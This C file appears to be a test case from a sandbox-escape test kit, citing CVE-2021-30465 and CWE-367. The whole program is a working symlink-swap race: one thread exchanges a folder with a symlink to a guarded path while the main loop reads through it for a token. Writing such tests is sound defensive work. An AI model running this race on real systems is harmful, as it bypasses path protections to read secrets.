// tries: to read below a folder of the workspace that is being exchanged with a link to the guarded one
// works: each component is looked up anew in every call
// see: CVE-2021-30465 (runc); CWE-367
// goal: read
// unrecorded: who loses every race meets nothing that could be refused
#include "../kit.h"

static volatile int swaps_over;

static void *swap_folder(void *unused)
{
	const char *folder = join(env("WORK"), "/swapped"), *link = join(env("WORK"), "/other");

	while (!swaps_over)
		renameat2(AT_FDCWD, folder, AT_FDCWD, link, RENAME_EXCHANGE);
	return NULL;
}

int main(void)
{
	const char *folder = join(env("WORK"), "/swapped"), *name = join(folder, "/secret");
	time_t end = time(NULL) + 3;
	pthread_t thread;

	MUST(mkdir(folder, 0755));
	mark(MUST(open(name, O_WRONLY | O_CREAT, 0644)));
	MUST(symlink(env("GUARDED"), join(env("WORK"), "/other")));
	pthread_create(&thread, NULL, swap_folder, NULL);
	while (!swaps_over && time(NULL) < end) {
		char bytes[64] = "";
		int fd = open(name, O_RDONLY);
		if (fd >= 0 && read(fd, bytes, 63) > 0 && strstr(bytes, "token")) {
			puts(bytes);
			swaps_over = 1;
		}
		if (fd >= 0)
			close(fd);
	}
	swaps_over = 1;
	pthread_join(thread, NULL);
	return 0;
}
